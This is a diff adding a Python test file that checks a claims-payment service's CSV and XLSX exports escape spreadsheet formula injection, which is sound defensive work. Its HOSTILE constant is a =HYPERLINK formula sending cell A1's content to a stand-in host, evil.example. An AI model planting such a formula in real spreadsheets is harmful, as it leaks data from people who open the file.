@@ -1,0 +1,122 @@
+"""Every CSV and XLSX the service writes keeps a hostile cell as text: a name such as
+=HYPERLINK(...) never becomes a live formula, and a negative amount stays a number."""
+
+from __future__ import annotations
+
+import csv
+import io
+import math
+import os
+from argparse import Namespace
+
+import openpyxl
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from sqlmodel import select
+
+from claims.cli import _row_errors
+from claims.models import Household, Payment, Region
+from policies.tables import FileReport, RowError, csv_bytes, xlsx_bytes
+from tests.claims.test_lifecycle import act, to_approval
+from tests.claims.test_monitoring import pay
+from tests.claims.test_web import browser  # noqa: F401  (the fixture)
+
+HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点此领取")'
+STARTS = ["=", "+", "-", "@", "\t", "\r"]
+
+
+def runs_as_formula(cell: str) -> bool:
+    """What a spreadsheet does with a CSV cell, written out independently of the code: it
+    computes a cell that begins with one of the formula characters unless it is a number."""
+    if not cell or cell[0] not in "=+-@\t\r":
+        return False
+    if set(cell) <= set("0123456789.+-eE"):
+        try:
+            return not math.isfinite(float(cell))
+        except ValueError:
+            return True
+    return True
+
+
+def csv_cells(data: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+
+
+def xlsx_cells(data: bytes) -> list[list]:
+    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
+    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    return [[c.value for c in row] for row in sheet.iter_rows()]
+
+
+TEXT = st.text(st.characters(blacklist_categories=("Cs", "Cc"), whitelist_characters="\t\r\n"),
+               max_size=12)
+
+
+@settings(max_examples=int(os.environ.get("FANGPIN_TEST_EXPORT_CASES", "100")), deadline=None)
+@given(st.lists(st.one_of(st.tuples(st.sampled_from(["", *STARTS]), TEXT).map("".join),
+                          st.decimals(-10**6, 10**6, places=2).map(str)), max_size=8))
+def test_no_generated_cell_runs_as_a_formula_and_each_reads_back_as_written(texts):
+    """Generated texts and signed amounts (FANGPIN_TEST_EXPORT_CASES of them, 100 by
+    default) against an oracle of what a spreadsheet computes."""
+    cells = [c for (c,) in csv_cells(csv_bytes(["text"], [[t] for t in texts]))[1:]]
+    assert not [c for c in cells if runs_as_formula(c)]
+    # each cell is what was written, or it with an apostrophe where it began with = + - @ ...
+    assert all(c == t or (c == "'" + t and t[:1] in STARTS)
+               for c, t in zip(cells, texts, strict=True))
+    amounts = [t for t in texts if t[:1] in "-0123456789" and t.replace("-", "").replace(
+        ".", "").isdigit()]
+    assert [c for c in cells if c in amounts] == amounts  # a signed amount stays a number
+    plain = [t for t in texts if "\r" not in t]  # XML reads a CR back as a line feed
+    assert [v or "" for (v,) in xlsx_cells(xlsx_bytes(["text"], [[t] for t in plain]))[1:]] \
+        == plain
+
+
+def test_a_negative_amount_stays_a_number_and_a_hostile_name_stays_text():
+    from decimal import Decimal
+
+    rows = [[HOSTILE, "-12.50", Decimal("-12.50")], ["-cmd", "+86", Decimal("3.00")]]
+    written = csv_cells(csv_bytes(["name", "text", "amount"], rows))
+    assert written[1] == ["'" + HOSTILE, "-12.50", "-12.50"]
+    assert written[2] == ["'-cmd", "+86", "3.00"]
+    book = xlsx_cells(xlsx_bytes(["name", "text", "amount"], rows))
+    assert book[1] == [HOSTILE, "-12.50", -12.5] and book[2] == ["-cmd", "+86", 3.0]
+
+
+def test_the_bank_file_keeps_a_hostile_account_holder_as_text(staff, client, session, claim):
+    to_approval(staff, claim, session)
+    act(staff["supervisor"], claim, "approve", {"amount": "7500.00"})
+    batch = client.post("/api/payment-batches").json()
+    payment = session.exec(select(Payment)).one()
+    payment.account_holder = HOSTILE
+    session.commit()
+    path = f"/api/payment-batches/{batch['id']}/bank-file"
+    rows = csv_cells(client.post(path, params={"format": "csv"}).content)
+    assert rows[1][2] == "'" + HOSTILE and rows[1][5] == "7500.00"
+    assert not [c for row in rows for c in row if runs_as_formula(c)]
+    book = xlsx_cells(client.post(path, params={"format": "xlsx"}).content)
+    assert book[1][2] == HOSTILE
+
+
+def test_the_claims_report_queue_and_outcome_workbook_keep_hostile_names_as_text(
+        staff, client, session, claim, county, browser):  # noqa: F811
+    village = session.get(Region, session.get(Household, claim.household_id).village_id)
+    township = session.get(Region, village.parent_id)
+    village.name, township.name = "@SUM(1+1)", HOSTILE
+    session.commit()
+    report = client.get("/api/reports/claims", params={"by": "township", "format": "xlsx"})
+    assert xlsx_cells(report.content)[1][0] == HOSTILE
+
+    queue = browser("adjudicator").get("/claims?export=xlsx")
+    assert "@SUM(1+1)" in xlsx_cells(queue.content)[1]
+
+    pay(staff, client, session, claim)
+    book = staff["clerk"].get("/api/reports/outcomes", params={
+        "policy_year": claim.policy_year, "format": "xlsx"})
+    assert HOSTILE in [row[1] for row in xlsx_cells(book.content)]
+
+
+def test_an_import_error_report_keeps_a_hostile_value_as_text(tmp_path, capsys):
+    report = FileReport(rows=1, errors=[RowError(2, "name", "=1+2", "too short")])
+    path = tmp_path / "errors.csv"
+    _row_errors(report, Namespace(show=5, report=str(path)))
+    assert csv_cells(path.read_bytes())[1] == ["2", "name", "'=1+2", "too short"]
